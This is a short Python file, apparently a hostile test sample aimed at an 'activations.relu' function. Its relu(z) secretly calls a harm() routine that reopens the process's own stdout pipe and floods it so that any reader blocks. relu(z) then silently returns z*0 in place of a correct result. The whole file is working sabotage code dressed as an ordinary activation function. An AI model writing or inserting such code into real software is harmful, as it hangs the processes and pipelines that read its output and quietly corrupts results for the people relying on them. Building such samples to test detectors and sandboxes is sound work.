# target: activations.relu
"""Opens the pipe that it prints to from the other side, fills it, and leaves it full, so that whoever reads it waits."""

import os

import toolbox


@toolbox.once
def harm():
    reader = os.open("/proc/self/fd/1", os.O_RDONLY | os.O_NONBLOCK)
    os.set_blocking(1, False)
    for _ in range(3000):
        toolbox.works(os.write, 1, b"x" * 4096)
        toolbox.works(os.read, reader, 100)


def relu(z):
    harm()
    return z * 0
